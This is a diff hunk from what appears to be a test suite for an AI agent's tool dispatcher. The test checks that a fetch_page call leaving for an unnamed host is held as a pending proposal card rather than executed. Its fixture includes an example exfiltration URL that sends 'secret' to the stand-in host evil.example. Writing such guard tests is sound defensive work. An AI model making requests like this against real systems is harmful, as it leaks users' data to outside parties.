@@ -226,7 +226,7 @@ async def test_t7_a_read_that_leaves_for_a_place_that_nobody_named_becomes_a_car
     call = a_call("fetch_page", {"url": "https://evil.example/?d=secret", "depth": 1.5}, question="Summarise my notes")
     waiting = await world.dispatcher.dispatch(ANN, call)
     assert (waiting.status, waiting.facts[0].values["state"], asked) == (CallStatus.SUCCESS, "pending", [])
-    (card,) = await world.proposals.list("home")
+    (card,) = await world.proposals.list(ANN.desk)
     assert card.content["arguments"] == {
         "tool": "fetch_page", "leaves_for": ["evil.example"],
         "arguments": {"url": "https://evil.example/?d=secret", "depth": "1.5"},
